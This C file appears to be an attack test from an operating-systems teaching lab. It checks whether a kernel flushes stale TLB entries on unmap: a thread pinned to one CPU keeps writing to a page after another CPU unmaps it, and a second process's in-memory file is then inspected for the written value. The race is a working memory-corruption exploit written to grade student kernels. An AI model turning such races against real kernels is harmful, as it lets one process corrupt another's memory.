/*
 * A page that was given back, and is written to all the same.  One thread writes to a page without end; another
 * unmaps it.  A kernel that tells only its own CPU leaves the writer its translation, and gives the frame to whoever
 * asks next: here to another process's file, in memory, that the writer has never opened.
 *
 * There is no row to switch off, for without this no kernel is right: it wins in the lab's starter alone.
 */
#define _GNU_SOURCE
#include "user/attack/attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "user/cpu.h"

#define PAGE   4096
#define TRIES  400
#define FRAMES 8 /* the next that the allocator gives out */

static char *volatile window;
static volatile int writing, over;
static sigjmp_buf fallen;

static void
fall(int signo)
{
	(void)signo;
	siglongjmp(fallen, 1);
}

static void *
writer(void *arg)
{
	if (pin(1) < 0)
		give_up("two CPUs");
	while (!over) {
		if (sigsetjmp(fallen, 1) != 0)
			writing = 0;
		while (window != NULL && !over) {
			*(volatile uint64_t *)window = MAGIC;
			writing = 1;
		}
		writing = 0;
	}
	return arg;
}

/* The other process: it fills a file as soon as it is asked to, and says whether the file then holds something else. */
static int
others_file(int ask, int answer)
{
	static uint64_t zeros[FRAMES * PAGE / 8];
	int fd = memfd_create("other", 0), bad = 0;
	char c;

	if (pin(0) < 0)
		return 2;
	while (read(ask, &c, 1) == 1) {
		uint64_t word;

		if (write(fd, zeros, sizeof(zeros)) != sizeof(zeros))
			return 2;
		for (volatile int i = 0; i < 20000; i++)
			continue;
		for (int i = 0; i < FRAMES; i++)
			bad |= pread(fd, &word, sizeof(word), i * PAGE) == sizeof(word) && word == MAGIC;
		if (ftruncate(fd, 0) < 0 || lseek(fd, 0, SEEK_SET) < 0 || write(answer, bad ? "!" : ".", 1) != 1)
			return 2;
	}
	return 0;
}

static void
run(void)
{
	int ask[2], answer[2];
	pthread_t thread;
	char c = '.', *pages;

	if (pipe(ask) < 0 || pipe(answer) < 0)
		give_up("pipe");
	if (fork() == 0) {
		close(ask[1]);
		_exit(others_file(ask[0], answer[1]));
	}
	close(ask[0]);
	if (pin(0) < 0)
		give_up("sched_setaffinity");
	signal(SIGSEGV, fall);
	if (pthread_create(&thread, NULL, writer, NULL) != 0)
		give_up("pthread_create");
	pages = mmap(NULL, TRIES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (pages == MAP_FAILED)
		give_up("mmap");
	step("legal: a thread writes to a page, and faults when it is unmapped");
	step("illegal: it goes on writing, into a frame that has become a file's");
	for (int i = 0; i < TRIES && c != '!'; i++) {
		char *page = pages + (size_t)i * PAGE; /* one that the writer's TLB has nothing of */

		attack_address = (uint64_t)page;
		writing = 0;
		window = page;
		while (!writing)
			sched_yield();
		if (munmap(page, PAGE) < 0 || write(ask[1], "", 1) != 1 || read(answer[0], &c, 1) != 1)
			give_up("the other's file");
		window = NULL;
		while (writing && c != '!')
			sched_yield();
	}
	over = 1;
	if (c == '!')
		return;
	step("the other's file never held what was written");
	exit(1);
}

ATTACK(shootdown) = {
	.name = "shootdown",
	.what = "a thread writes to a frame that was unmapped, and is somebody else's",
	.run = run,
};
